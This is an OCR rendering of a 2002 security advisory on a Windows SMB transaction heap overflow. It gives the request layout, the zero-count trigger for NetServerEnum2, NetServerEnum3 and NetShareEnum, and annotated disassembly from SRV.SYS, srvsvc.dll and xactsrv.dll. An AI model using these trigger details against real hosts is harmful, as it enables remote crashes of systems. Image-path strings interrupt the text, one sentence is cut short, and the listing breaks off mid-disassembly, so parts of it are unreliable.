23th Aug 2002 [SBWID-5658]
        Windows SMB implementation local and remote overflowWindows NT 4.0 Workstation/Server
         Windows 2000 Professional/Advanced Server
         Windows XP Professional
         With all service packs and security hotfixes applied
        Ivan Arce  [[email protected]]  CTO  of  CORE  SECURITY  TECHNOLOGIES
        [http://www.corest.com] posted the following, credits to Alberto  Solino
        and Hernan Ochoa who researched and discovered the bug :
        SMB stands for "Server Message Block" and is also known as CIFS  (Common
        Internet File System). This protocol is  intended  to  provide  an  open
        cross-platform mechanism for client systems  to  request  file  services
        from server system over a network.  Current  CIFS  implementation  under
        Windows runs over  port  tcp/139  and/or  port  tcp/445  (Direct  Host),
        depending whether NetBIOS over TCP/IP is enabled or not.
        The SMB_COM_TRANSACTION command allows the  client  and  the  server  to
        define functions specific to  a  particular  resource  on  a  particular
        server. The functions supported are not defined by the  protocol  itself
        but by client and server implementations.
        By sending a specially crafted  packet  requesting  the  NetServerEnum2,
        NetServerEnum3 or NetShareEnum transaction,  an  attacker  can  mount  a
        denial ofservice attack on the target machine. It might be  possible  to
        abusethis  vulnerability  to  execute  arbitrary  code,  although  the
        research  performed  so  far  can  not  confirm  this  possibility  (see
        'Technical Description' below for more precise information).
        In order to exploit this vulnerability a user account is needed for  the
        NetShareEnum transaction and only  anonymous  access  is  necessary  for
        NetServerEnum2 and NetServerEnum3.
        Windows operating system ship with anonymous access enabled  by  default
        and are therefore vulnerable to a denial of service attack.
        The effect of an attack will  trigger  a  operating  system  halt  (Blue
        Screen) as shown below (memory addresses may vary):
         *** STOP: 0x0000001E (0xC0000005, 0x804B818B, 0x00000001, 0x00760065)
         *** Address 804B818B base at 80400000, DateStamp 384d9b17 0 ntoskrnl.exe
        The  physical  memory  is  dumped  and  the  system  restarted   (unlessconfigured otherwise).
         *Technical Description - Exploit/Concept Code*
        The following analysis was performed on a Windows 2000  Advanced  Server
        (Service Pack 2).
        The attack consists of sending (after  establishing  a  SMB  session)  a
        specially   crafted   SMB_COM_TRANSACTION    packet    requesting    the
        NetServerEnum2,  NetServerEnum3  or  NetShareEnum   functions   of   the
        Microsoft Windows Lanman Remote API Protocol.
        The format of this packet consist of a SMB Header plus  the  Transaction
        request. The transaction request has the following format:
         Transaction Request Format
        +0  WordCount  (BYTE)
        +1  Total Parameter Count (WORD)
        +3  Total Data Count (WORD)
        +5  Max Param Count  (WORD)
        +7  Max Data Count  (WORD)
        +9  Max Setup Count  (BYTE)
        +10 (0Ah) Reserved  (BYTE)
        +11 (0Bh) Flags   (WORD)
        +13 (0Dh) Timeout   (DWORD)
        +17 (11h) Reserved  (WORD)
        +19 (13h) Parameter Count  (WORD)
        +21 (15h) Parameter Offset (WORD)
        +23 (17h) Data Count  (WORD)
        +25 (19h) Data Offset  (WORD)
        +27 (1Bh) Setup Count  (BYTE)
        +28 (1Ch) Reserved  (BYTE)
        +29 (1Dh) Byte Count  (WORD)
        +31 (1Fh) Transaction Name 'PIPELANMANx00' (13 BYTES)
        +44 (2Ch) Parameters
        +0  Function Code  (WORD)+2  Parameter Descriptor  (6 BYTES)
        +8  Return Descriptor     (7 BYTES)
        +15 (0Fh) Detail Level  (WORD)
        +17 (11h)Receive Buffer Length   (WORD)
        The  'Function  Code'  found  in  'Parameters'  specifies  the  function
        requested.  In  this  case  it  must  be   68h   (NetServerEnum2),   D7h
        (NetServerEnum3) or 00h (NetShareEnum).
        The problem arises when the fields 'Max Param Count'  and/or  'Max  Data
        Count' are set to zero (0).
        Once the request packet  is  received  by  the  Windows  server,  it  is
        handled by the SRV.SYS driver in kernelmode.  At  SRV.SYS+08F4h  it  is
        determined that the packet is a SMB_COM_TRANSACTION and  a  function  we
        arbitrary named 'doSMB_COM_TRANSACTION' (SRV.SYS+D42A) is  called  where
        the Transaction Request portion of the packet is parsed.
        Here the 'Max Data Count' and 'Max Param Count' (and all  other  fields)
        are extracted from the packet received,  some  calculations  and  sanity
        checks are performed to determine the location of  the  'Parameters'  in
        the transaction request packet and the amount of memory needed to  store
        them. A function is then called at SRV.SYS+DAB0 to allocate a  structure
        in the heap (BUFFER1 from now on) that will contain data  obtained  from
        the transaction packet and the 'Parameters':
        0000DADB                 movzx   eax, si
        0000DADE                 mov     [ebp+var_4], eax
        0000DAE1                 add     eax, 3
        0000DAE4                 mov     ecx, eax0000DAE6                 mov     [ebp+var], eax
        0000DAE9                 mov     eax, [ebp+argC_MaxDataCountAdded]
        0000DAEC                 and     ecx, 0FFFFFFFCh ; align
        0000DAEF                 cmp     eax, 10400h     ; the max of the data with
                                                         ; everything added is 66560
        0000DAF4                 lea     edi, [ecx+eax+98h] ; Calculate the space
                                                            ; needed for the
                                                            ;  + the 'Parameters'
        0000DAFB                 mov     [ebp+argC_MaxDataCountAdded], edi
        0000DAFE                 ja      short loc_1DB22
        0000DB00                 cmp     [ebp+arg_1C], 0
        0000DB04                 jnz     locAllocateHeap
        0001B806 locAllocateHeap:
        0001B806                 lea     eax, [ebp+1Ch]
        0001B809                 push    eax             ; ptr to buffer that will
                                                         ; error code
        0001B80A                 push    edi             ; Bytes to allocate
                                                         ; above at SRV.SYS+DAF4)
        0001B80B                 call    myAllocateHeap
        0001B810                 jmp     loc_1DB20
        Later in the  processing  of  the  request,  at  SRV.SYS+33209hanother
        buffer will be allocated in the heap.  This  buffer  (BUFFER2)  will  be
        next to the one allocated at SRV.SYS+1B806h (BUFFER1).
        The  problem  is  that  due  to  the   lack   of   proper   checks   and
        miscalculation, when the 'Max Data Count' and/or 'Max Param  Count'  are
        zero, the length of the first buffer allocated  on  the  heap  (BUFFER1)
        will be insufficient and the first 8 bytes of  the  next  chunk  on  the
        heap  (used   by   the   ntoskrnl!RtlFreeHeap()   algorithm)   will   be
        When   the   first   buffer    allocated    is    freed    by    calling
        ntoskrnl!RtlFreeHeap() the heap will be in an  inconsistent  state  (due
        to  the  corruption  of  the  chunk's  'control'  data,  used   by   the
        ntoskrnl!RtlFreeHeap() algorithm) and RtlFreeHeap() will try  to  access
        an invalid memory address resulting in the system crash (Blue Screen).
        The actual corruption of the heap occurs as  result  of  a  LPC  message
        sent  by  SRV.SYS  to  the  Lanman  Server   Service   (implemented   in
        srvsvc.dll, running in usermode).
        At SRV.SYS+33358, an LPC message to the Port  'XactSrvLpcPort'  is  sent
        (This port is created by srvsvc.dll):
        00033336                 push    [ebp+arg_0]
        00033339                 call    myImpersonateSecurityContext
        0003333E                 xor     esi, esi
        00033340                 mov     [ebp+errorCode], eax
        00033343                 cmp     eax, esi
        00033345                 jl      short loc_43366
        00033347                 lea     eax, [ebp+varReplyMessage]
        0003334D                 push    eax             ; OUT PPORT_MESSAGE
        0003334E                 lea     eax, [ebp+varRequestMessage]
        00033351                 push    eax             ; IN PPORT_MESSAGE
        00033352                 push    myPortHandle    ; IN HANDLE PortHandle
        00033358                 call    ds:NtRequestWaitReplyPort
        0003335E                 mov     [ebp+errorCode], eax
        This message is handled by srvsvc.dll where function  to  be  called  is
        obtained from a message table, described below as 'PortFuncMsgTable':767E88A3                 mov     [ebp+var_CC], 10h
        767E88AC                 mov     [ebp+var_CA], 28h
        767E88B5                 mov     [ebp+var_C8], esi
        767E88BB                 mov     eax, [ebp+var_88]
        767E88C1                 mov     [ebp+var_C4], eax
        767E88C7                 mov     eax, [ebp+var_84]
        767E88CD                 mov     [ebp+var_C0], eax
        767E88D3                 mov     eax, [ebp+var_80]
        767E88D6                 mov     [ebp+var_BC], eax
        767E88DC                 mov     eax, [ebp+var_78]
        767E88DF                 cmp     eax, 0Ah
        767E88E2                 ja      Func3
        767E88E8                 jmp     ds:PortFuncMsgTable[eax*4]
        This ends up calling the function at SRVSVC.DLL:767EE136, thatreceives
        the buffer allocated (BUFFER1) in kernel mode by the SRV.SYS driver.
        The function  then  checks  againthe  Parameters  of  the  transaction
        request, by calling different functions in xactsrv.dll:
        767EE1B1                 push    eax
        767EE1B2                 push    ebx
        767EE1B3                 call    pfXsCheckSmbDescriptor ;
        XsCheckSMBDescriptor is located in
               ; xactsrv.dll (7568d46f)
        767EE1B9                 test    eax, eax
        767EE1BB                 jnz     loc_767EE2A1
        XsCheckSMBDescriptor  performs  some  checks  and  processing   of   the
        Parameters and Return Descriptor of the SMB  Transaction  request.  Then
        the  function'XsCaptureParemters'  is  called   to   perform   further
        767EE2A1                 lea     eax,[ebp-0D0h]
        767EE2A7                 push    eax
        767EE2A8                 push    dword ptr [ebp-20h] ; ptr to 'BUFFER1'
        767EE2AB                 call    pfXsCaptureParameters
        767EE2B1                 mov     [ebp-1Ch], eax
        At  xactsrv!7568D2D5  the  5th  byte  after  the  end  of   BUFFER1   is
        overwritten with a 0:
        7568D2D5                 movzx   ecx, ax
        7568D2D8                 mov     [esi], ax
        7568D2DB                 mov     edi, [edx+48h]
        7568D2DE                 mov     edx, ecx
        7568D2E0                 xor     eax, eax7568D2E2                 shr     ecx, 2
        7568D2E5                 repe stosd
        7568D2E7                 mov     ecx, edx
        7568D2E9                 and     ecx, 3
        7568D2EC                 repe stosb   ; here the 5th byte is overwritten
        7568D2EE                 jmp     short loc_7568D33D
        After returning from this call,  based  on  the  Function  Code  of  the
        transaction,  the  requested   function   is   called   in   xactsrv.dll
        (XsNetServerEnum2, XsNetServerEnum3, or XsNetShareEnum in this case)
        767EE22F                 mov     dword ptr [ebp-4], 2
        767EE236                 push    dword ptr [ebp-0D0h]
        767EE23C                 push    dword ptr [ebp-0DCh]
        767EE242                 push    ebx
        767EE243                 push    dword ptr [ebp-1Ch]
        767EE246                 call    dword ptr table_767F2E38[edi] ; 'function'
        Inside  the  called  function  (XsNetServerEnum2  or   XsNetServerEnum3)
        another  function,  browser.dll!I_BrowserServerEnumForXactSrv,  will  be
        called. The value returned from this function  will  later  be  used  to
        overwrite the  heap.  The  observed  return  values  that  are  used  to
        overwrite the heap were 17E6h and 7Ch.  It  is  not  evident  that  this
        values can be controlled by the attacker in a reliable way.
        75688823add     eax, 64h
        75688826                 push    eax
        75688827                 push    [ebp+var_38]
        7568882A                 push    ebx
        7568882B                 call    I_BrowserServerEnumForXactsrv
        75688830                 mov     [edi], ax   ; ax contains returned value
                ; this value will be the one
                ; used to overwrite the heap
        75688833                 test    ax, ax
        75688836                 jz      short loc_75688844
        Finally  after  some  more  processing  the  function  will  return   to
        srvsvc.dll!767ee24c   after    executing    the    function    requested
        (XsNetServerEnum2, XsNetServerEnum3 or XsNetShareEnum)
        Some other processing with the returned number  will  be  done  and  the
        XsSetParameter function will  be  called.  This  call  will  effectively
        overwrite the first two bytes  after  the  BUFFER1  structure  with  the
        value         returned         from         the         call          to
        browser.dll!I_BrowserServerEnumForXactSrv, and  then  the  3rd  and  4th
        byte will be overwritten with 0.
        767EE28C                 push    dword ptr [ebp-0A0h]
        767EE292                 push    edi
        767EE293                 push    dword ptr [ebp-20h]767EE296                 call    pfXsSetParameters  ; Call to
        7568DB0D                 push    ebp
        7568DB0E                 movebp, esp
        7568DB10                 push    ecx
        7568DB11                 mov     ecx, [ebp+0Ch]
        7568DB14                 mov     eax, [ebp+10h]
        7568DB17                 push    ebx
        7568DB18                 push    esi
        7568DB19                 mov     esi, [ebp+08h]
        7568DB1C                 mov     dx, [ecx]
        7568DB1F                 push    edi
        7568DB20                 push    2
        7568DB22                 mov     ebx, [esi+40h]   ; ptr to past the end of
        7568DB25                 mov     [ebp+10h], eax
        7568DB28                 mov     eax, [esi+3Ch]
        7568DB2B                 pop     edi
        7568DB2C                 mov     [ebx], dx ; overwrite the first two bytes
        7568DB2F                 mov     dx, [ecx+2]
